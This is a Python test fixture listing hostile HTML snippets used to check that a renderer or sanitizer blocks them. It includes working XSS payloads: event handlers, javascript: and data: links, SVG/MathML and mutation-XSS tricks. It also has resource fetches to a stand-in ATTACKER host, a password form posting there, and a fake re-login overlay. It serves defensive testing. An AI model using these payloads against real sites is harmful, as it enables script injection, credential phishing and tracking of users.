"""The hostile-HTML set of issue 5 (and case F30's structures), as (name, HTML) pairs.

Every payload that runs sets a window.f30_* flag; every one that fetches asks the attacker
server (ATTACKER is replaced by its URL). A test renders them and expects neither.
"""

import base64

SVG_WITH_HANDLER = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" id="p"><image href="x" '
    b'onerror="window.f30_svg_use=1"/></svg>'
).decode()
HTML_WITH_SCRIPT = base64.b64encode(b"<script>parent.f30_data_html=1</script>").decode()

PAYLOADS = [
    ("script", "<script>window.f30_script=1</script>"),
    ("script src", '<script src="ATTACKER/script.js"></script>'),
    ("img onerror", '<img src="x" onerror="window.f30_img=1">'),
    ("remote img onerror", '<img src="ATTACKER/missing.png" onerror="window.f30_img_remote=1">'),
    ("body onload", '<body onload="window.f30_onload=1">'),
    (
        "onmouseover",
        '<div id="hover" onmouseover="window.f30_hover=1" style="height:60px">hover</div>',
    ),
    ("autofocus onfocus", '<input autofocus onfocus="window.f30_focus=1">'),
    (
        "details ontoggle",
        '<details open ontoggle="window.f30_toggle=1"><summary>s</summary></details>',
    ),
    ("javascript link", '<a href="javascript:window.f30_href=1">Rechnung ansehen</a>'),
    ("javascript link entity", '<a href="JaVaScRiPt&#58;window.f30_href2=1">Alternative</a>'),
    ("javascript link tab", '<a href="java&#x09;script:window.f30_href3=1">Tab</a>'),
    ("vbscript link", '<a href="vbscript:msgbox(1)">VB</a>'),
    ("data html link", f'<a href="data:text/html;base64,{HTML_WITH_SCRIPT}">Data</a>'),
    ("svg onload", '<svg onload="window.f30_svg=1"><circle r="5"/></svg>'),
    (
        "svg use data",
        f'<svg><use href="data:image/svg+xml;base64,{SVG_WITH_HANDLER}#p"></use></svg>',
    ),
    (
        "svg animate",
        '<svg><animate onbegin="window.f30_animate=1" attributeName="x" dur="1s"/></svg>',
    ),
    (
        "svg javascript link",
        '<svg><a xlink:href="javascript:window.f30_svg_href=1"><text y="20">x</text></a></svg>',
    ),
    ("math href", '<math href="javascript:window.f30_math_href=1"><mi>x</mi></math>'),
    ("css url", '<div style="background:url(ATTACKER/css-bg.gif);height:20px">bg</div>'),
    ("css expression", '<div style="width:expression(window.f30_expression=1)">expr</div>'),
    (
        "css javascript url",
        '<div style="background-image:url(javascript:window.f30_cssjs=1)">j</div>',
    ),
    ("css escaped url", '<div style="background:u\\72l(ATTACKER/css-escaped.gif)">e</div>'),
    (
        "style sheet",
        "<style>@import url(ATTACKER/import.css); body{background:url(ATTACKER/body.gif)}</style>",
    ),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=ATTACKER/refresh">'),
    (
        "form",
        '<form action="ATTACKER/collect" method="post"><input name="pw" type="password">'
        '<button formaction="ATTACKER/formaction">Senden</button>'
        '<input type="image" src="ATTACKER/input-image.png"></form>',
    ),
    ("srcdoc", '<iframe srcdoc="&lt;script&gt;parent.f30_srcdoc=1&lt;/script&gt;"></iframe>'),
    ("iframe", '<iframe src="ATTACKER/frame"></iframe>'),
    ("data iframe", f'<iframe src="data:text/html;base64,{HTML_WITH_SCRIPT}"></iframe>'),
    ("object", '<object data="ATTACKER/object.swf"></object>'),
    ("data object", f'<object data="data:text/html;base64,{HTML_WITH_SCRIPT}"></object>'),
    ("embed", '<embed src="ATTACKER/embed.swf">'),
    ("base href", '<base href="ATTACKER/"><img src="relative.png"><a href="relative">rel</a>'),
    ("link stylesheet", '<link rel="stylesheet" href="ATTACKER/style.css">'),
    ("link import", '<link rel="import" href="ATTACKER/import.html">'),
    ("link prefetch", '<link rel="prefetch" href="ATTACKER/prefetch">'),
    ("data svg image", f'<img src="data:image/svg+xml;base64,{SVG_WITH_HANDLER}">'),
    ("srcset", '<img srcset="ATTACKER/srcset.png 1x">'),
    ("table background", '<table background="ATTACKER/table-bg.gif"><tr><td>t</td></tr></table>'),
    ("video poster", '<video poster="ATTACKER/poster.png" src="ATTACKER/video.mp4"></video>'),
    ("audio", '<audio src="ATTACKER/audio.mp3" autoplay></audio>'),
    ("ping", '<a href="https://shop.example.org/" ping="ATTACKER/ping">ping</a>'),
    (
        "noscript title",
        '<noscript><p title="</noscript><img src=x onerror=window.f30_noscript=1>"></noscript>',
    ),
    ("title", '<title><img src=x onerror="window.f30_title=1"></title>'),
    ("textarea", '<textarea><img src=x onerror="window.f30_textarea=1"></textarea>'),
    ("style element", '<style><img src=x onerror="window.f30_style=1"></style>'),
    ("xmp", "<xmp><img src=x onerror=window.f30_xmp=1></xmp>"),
    ("template", "<template><img src=x onerror=window.f30_template=1></template>"),
    ("comment", "<!--><img src=x onerror=window.f30_comment=1>-->"),
    (
        "conditional comment",
        "<!--[if gte mso 9]><script>window.f30_mso=1</script><![endif]-->",
    ),
    (
        "fixed overlay",
        '<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:#fff;z-index:99">Bitte neu anmelden</div>',
    ),
    # Unclosed elements that swallow what follows them: last, so that the rest renders.
    (
        "math mglyph style",
        '<math><mtext><table><mglyph><style><img src=x onerror="window.f30_mxss=1">'
        "</style></mglyph></table></mtext></math>",
    ),
    (
        "namespace confusion",
        '<svg></p><style><a id="</style><img src=1 onerror=window.f30_ns=1>">',
    ),
    (
        "form namespace confusion",
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=window.f30_form_ns=1>",
    ),
]


def with_attacker(html, attacker_url):
    return html.replace("ATTACKER", attacker_url)


def hostile_document(attacker_url):
    """All payloads in one HTML body, pointing at the attacker."""
    body = "\n".join(f"<p>{name}</p>{html}" for name, html in PAYLOADS)
    return (
        "<html><head><title>t</title></head><body>"
        "<p>Sehr geehrte Frau Vogt,</p>" + body + "<p>Mit freundlichen Grüßen</p></body></html>"
    ).replace("ATTACKER", attacker_url)
